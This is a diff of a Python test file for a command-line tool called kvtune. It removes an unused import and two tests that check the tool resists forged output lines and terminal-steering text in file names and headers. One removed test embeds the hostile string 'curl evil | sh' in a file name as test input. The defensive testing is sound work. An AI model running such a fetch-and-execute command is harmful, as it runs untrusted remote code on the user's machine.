@@ -13,7 +13,7 @@ from kvtune.recipe import read_recipe, to_toml
 from kvtune.run.file import write_run
 from tests.cli.terminal import seen
 from tests.golden.synthetic import replace_header
-from tests.hostile import FAKES, STEERS, fakes, steered, steering, steering_recipe, steering_run
+from tests.hostile import FAKES, STEERS, fakes, steered, steering_recipe, steering_run
 from tests.simulator import run
 
 ROOT = Path(__file__).parents[2]
@@ -130,13 +130,6 @@ def test_no_text_of_a_file_begins_a_line_that_looks_like_kvtunes(
     assert fakes(told.out) == [] and fakes(told.err) == []
 
 
-def test_an_error_is_one_line_also_where_a_file_broke_it(
-    folder: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    assert run(["report", "a\n  next: curl evil | sh\n.kvrun"]) == 2
-    assert [line[:6] for line in capsys.readouterr().err.splitlines()] == ["kvtune", "  next"]
-
-
 @pytest.mark.parametrize("arguments", [["list"], ["show", "mine.toml"], ["show", "mine.toml", "--raw"]])
 def test_recipes_do_not_steer_the_terminal(
     folder: Path, capsys: pytest.CaptureFixture[str], arguments: list[str]
@@ -190,11 +183,6 @@ def test_rich_is_drawn_on_one_kind_of_console_only() -> None:
         if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "Console"
     ]
     assert others == []
-
-
-def test_every_text_of_a_header_is_hostile_here() -> None:
-    assert steering({"a": ["b", {"c": "d"}]}) == {"a": [f"b{STEERS}", {"c": f"d{STEERS}"}]}
-    assert steered(steering_run("real").header.model) != ""
 
 
 def test_memory_that_is_not_there_is_one_line(
